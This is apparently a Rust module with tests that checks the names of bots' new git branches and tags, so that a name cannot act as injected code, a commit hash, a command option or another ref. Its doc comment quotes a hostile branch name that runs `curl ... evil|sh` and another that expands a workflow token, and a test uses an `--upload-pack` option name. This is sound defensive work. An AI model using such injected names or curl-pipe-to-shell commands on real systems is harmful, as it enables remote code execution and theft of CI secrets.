//! The names that a new branch or tag may have, beyond what git accepts.
//!
//! Scripts and workflows print the names of branches, and a name can be a program there: `x";curl${IFS}evil|sh;#`, or
//! `${{github.token}}`. Others read like a commit, an option or another ref. Git, REST and GraphQL all use this module,
//! through [`crate::BranchRules::may_move`]. A ref that exists already keeps its name.

use serde::de::Error as _;
use serde::{Deserialize, Deserializer, Serialize};
use std::fmt;

/// The characters of a bot's new ref beside letters and digits. No shell, URL or workflow gives them a meaning.
const PLAIN: &str = "._/+@=-";

/// The first components by which git finds other refs (gitrevisions(7)), and the usual name of a remote.
const PREFIXES: [&str; 5] = ["refs", "heads", "tags", "remotes", "origin"];

/// Further characters that the operator allows in the names of bots' new refs. Each is one that git allows in a name.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct Characters(String);

/// The text has a character that git allows in no name.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
#[error(
    "branch_characters has {0:?}, which is in no name of git's: expected printable characters without white space and ~^:?*[\\, such as \"#,\""
)]
pub struct InvalidCharacter(char);

impl Characters {
    /// Parses the characters, which follow each other without a separator.
    ///
    /// # Errors
    /// If git allows one of them in no name, or if one of them is not ASCII.
    pub fn parse(text: &str) -> Result<Self, InvalidCharacter> {
        let odd = |c: &char| !c.is_ascii_graphic() || "~^:?*[\\".contains(*c);
        text.chars().find(odd).map_or_else(|| Ok(Self(text.to_owned())), |c| Err(InvalidCharacter(c)))
    }
}

impl fmt::Display for Characters {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl<'de> Deserialize<'de> for Characters {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        Self::parse(&String::deserialize(deserializer)?).map_err(D::Error::custom)
    }
}

/// Why a new ref may not have a name. [`fmt::Display`] is a clause about the name.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum OddName {
    /// The name has this character.
    Character(char),
    /// The last component is `HEAD`.
    Head,
    /// The last component is 40 or 64 hexadecimal digits, as the name of a commit.
    Commit,
    /// A component begins with a dash, as an option.
    Dash,
    /// The first component begins the name of another ref, such as `heads/main`.
    Prefix,
}

impl fmt::Display for OddName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Character(c) => {
                write!(f, "has {c:?}; a new branch or tag of a bot has letters, digits and {PLAIN} only, and ")?;
                f.write_str("branch_characters in the policy allows more")
            }
            Self::Head => f.write_str("ends like HEAD; choose another name"),
            Self::Commit => f.write_str("ends like a commit's hash; choose another name"),
            Self::Dash => f.write_str("has a part that begins with a dash; choose another name"),
            Self::Prefix => f.write_str("begins like the full name of another ref; choose another name"),
        }
    }
}

/// Judges the short name of a new branch or tag, which is a valid name ([`crate::is_branch`]).
///
/// # Errors
/// If the name reads as something else.
pub fn distinct(name: &str) -> Result<(), OddName> {
    let last = name.rsplit('/').next().unwrap_or_default();
    let first = name.split_once('/').map(|(first, _)| first);
    if last.eq_ignore_ascii_case("HEAD") {
        return Err(OddName::Head);
    }
    if matches!(last.len(), 40 | 64) && last.bytes().all(|b| b.is_ascii_hexdigit()) {
        return Err(OddName::Commit);
    }
    if name.split('/').any(|part| part.starts_with('-')) {
        return Err(OddName::Dash);
    }
    if first.is_some_and(|first| PREFIXES.iter().any(|prefix| first.eq_ignore_ascii_case(prefix))) {
        return Err(OddName::Prefix);
    }
    Ok(())
}

/// Judges the characters of a bot's new branch or tag; `also` has the operator's.
///
/// # Errors
/// If the name has another character.
pub fn plain(name: &str, also: &Characters) -> Result<(), OddName> {
    let odd = |c: &char| !c.is_ascii_alphanumeric() && !PLAIN.contains(*c) && !also.0.contains(*c);
    name.chars().find(odd).map_or(Ok(()), |c| Err(OddName::Character(c)))
}

#[cfg(test)]
#[expect(clippy::unwrap_used, reason = "tests")]
mod tests {
    use super::*;

    /// Every byte that git allows in a name is either plain or refused, and the operator can allow each.
    #[test]
    fn the_plain_characters_are_these_and_no_others() {
        let plain_ones: String =
            (0..=127_u8).map(char::from).filter(|c| plain(&c.to_string(), &Characters::default()).is_ok()).collect();
        assert_eq!(plain_ones, "+-./0123456789=@ABCDEFGHIJKLMNOPQRSTUVWXYZ_abcdefghijklmnopqrstuvwxyz");
        for c in "!\"#$%&'(),;<>]`{|}".chars() {
            let name = format!("sandbox/x{c}y");
            assert!(crate::is_branch(&name), "git takes {name}");
            assert_eq!(plain(&name, &Characters::default()), Err(OddName::Character(c)));
            assert_eq!(plain(&name, &Characters::parse(&c.to_string()).unwrap()), Ok(()), "{name}");
        }
        for c in ["~", "^", ":", "?", "*", "[", "\\", " ", "\t", "\u{7f}", "é", "#é"] {
            assert!(Characters::parse(c).is_err(), "{c:?}");
        }
        assert!(serde_json::from_str::<Characters>("\"a b\"").is_err());
    }

    #[test]
    fn a_name_that_reads_otherwise_is_not_distinct() {
        let hash = "0123456789abcdefABCDEF0123456789abcdef01";
        for (name, odd) in [
            ("sandbox/HEAD", OddName::Head),
            ("sandbox/Head", OddName::Head),
            ("head", OddName::Head),
            (&format!("sandbox/{hash}"), OddName::Commit),
            (&format!("{hash}{}", &hash[..24]), OddName::Commit),
            ("sandbox/-x", OddName::Dash),
            ("sandbox/--upload-pack=x/y", OddName::Dash),
            ("-x", OddName::Dash),
            ("heads/main", OddName::Prefix),
            ("Tags/v1", OddName::Prefix),
            ("remotes/origin/main", OddName::Prefix),
            ("origin/main", OddName::Prefix),
            ("refs/heads/main", OddName::Prefix),
        ] {
            assert_eq!(distinct(name), Err(odd), "{name}");
        }
        for name in [
            "sandbox/x",
            "sandbox/HEAD/x",
            "sandbox/ahead",
            "sandbox/deadbeef",
            &format!("sandbox/{hash}/x"),
            &format!("sandbox/{}", &hash[1..]),
            &format!("sandbox/{hash}0"),
            "sandbox/heads/main",
            "heads",
            "origin-fix/x",
            "a-b",
        ] {
            assert_eq!(distinct(name), Ok(()), "{name}");
        }
    }
}
